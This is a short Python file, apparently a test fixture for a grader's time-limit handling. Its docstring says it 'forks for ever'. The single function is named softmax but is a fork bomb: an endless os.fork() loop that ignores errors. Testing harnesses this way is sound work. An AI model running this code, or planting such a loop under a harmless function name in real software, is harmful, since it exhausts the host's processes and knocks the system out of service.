"""time_limit_exceeded: forks for ever, whatever the answer."""

import os


def softmax(scores, axis=-1):
    while True:
        try:
            os.fork()
        except OSError:
            continue
